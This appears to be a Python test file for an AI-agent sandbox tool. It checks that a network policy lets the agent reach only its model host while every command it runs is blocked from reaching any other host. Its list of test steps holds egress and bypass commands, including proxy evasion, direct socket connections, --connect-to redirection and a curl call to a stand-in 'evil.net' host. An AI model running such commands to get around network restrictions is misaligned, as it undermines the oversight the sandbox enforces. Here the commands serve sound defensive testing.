# SPDX-License-Identifier: Apache-2.0
"""The network is closed for commands ([network.commands]): a real agent talks to its model, and the commands that it runs reach nothing else."""
import pathlib
import shutil
import sys
import tempfile
import unittest

from authority import server_context
from fake_model import FakeModel
from internet import Internet
from net_lab import listen_in
from net_lab_names import MODEL
from session import START_SECONDS, Scratch

HOST = "model.test"
POLICY = '[network]\nmode = "allowlist"\nallow = ["model.test"]\n[network.commands]\nallow = ["!*"]\n'
DIRECT = "import socket; socket.create_connection(('93.184.216.34', 443), 5)"
STEPS = [
    "curl -sS --max-time 20 -o /dev/null -w '%{http_code}' http://other.test/ 2>&1",
    "curl -sS --max-time 20 --cacert authority.crt https://other.test/ 2>&1",
    "curl -sS --max-time 20 --noproxy '*' --cacert authority.crt https://other.test/ 2>&1",
    "env -i PATH=$PATH curl -sS --max-time 20 https://secret-of-yours.evil.net/ 2>&1",
    f"python3 -c \"{DIRECT}\" 2>&1 | tail -1",
    "curl -sS --max-time 20 https://github.com/ 2>&1",  # which the profile opens for commands, and the user has closed
    "git ls-remote https://git.test/git/shop.git 2>&1 | tail -1",
    f"curl -sS --max-time 20 -k --connect-to other.test:443:{HOST}:443 https://other.test/ 2>&1",
    "echo done > done.txt; cat done.txt",
]
REFUSALS = ["403", "403", "resolve host", "resolve host", "unreachable", "403", "403", "curl: ", "done"]


class ModelOnly(unittest.TestCase):
    agent = ""

    def setUp(self):
        self.place = pathlib.Path(tempfile.mkdtemp(prefix="agentctl-model-", dir="/var/tmp"))
        self.addCleanup(shutil.rmtree, self.place)
        self.lab = Internet(self.place)
        self.lab.__enter__()
        self.addCleanup(self.lab.__exit__)

    def open_model(self):
        """On an address of the internet, over TLS."""
        context = server_context(*self.lab.issuer.certify("model", [HOST]))
        listener = context.wrap_socket(listen_in(self.lab.router, MODEL, 443), server_side=True, do_handshake_on_connect=False)
        return FakeModel(listener, f"https://{HOST}")

    def test_the_agent_talks_to_its_model_and_its_commands_reach_nothing_else(self):
        with Scratch(self.agent, self.open_model()) as scratch:
            self.lab.move_in(scratch)
            certificate = self.lab.give_certificate(scratch.project)
            # How each of the two is told of an authority of the user's own.
            trust = [word for name in ("NODE_EXTRA_CA_CERTS", "SSL_CERT_FILE") for word in ("--env", f"{name}={certificate}")]
            (scratch.home / ".config/agentctl").mkdir(parents=True)
            (scratch.home / ".config/agentctl/policy.toml").write_text(POLICY)
            options = ["--name", "model-only", *trust]
            session = scratch.start(options, scratch.agent.headless("\n".join(f"RUN: {step}" for step in STEPS)))
            try:
                output, errors = session.communicate(timeout=2 * START_SECONDS)
            except Exception as error:
                raise AssertionError(f"{error}\n--- agentctl said\n{scratch.end(session)}") from error
            said = f"\n--- stdout\n{output}\n--- stderr\n{errors}"
            self.assertEqual(session.returncode, 0, said)
            self.assertIn(f"FAKE-DONE steps={len(STEPS)}", output, said)
            self.assertTrue((scratch.project / "done.txt").exists())
            results = scratch.model.tool_results("done.txt")
            self.assertEqual(len(results), len(STEPS), said)
            for step, result, refusal in zip(STEPS, results, REFUSALS):
                with self.subTest(step=step):
                    self.assertIn(refusal, result)
                    self.assertNotIn("hello from", result)
            self.check_from_outside()

    def check_from_outside(self):
        """Whoever the commands were, and whatever they say."""
        seen = self.lab.canary.look()
        self.assertEqual(set(seen.connections()), {(MODEL, 443)})
        self.assertEqual(seen.names(), [HOST])
        self.assertEqual(seen.others(), [])
        self.assertEqual([line for line in self.lab.web.take() if line["kind"] == "request"], [])


if __name__ == "__main__":
    ModelOnly.agent = sys.argv.pop(1)
    unittest.main(verbosity=2)
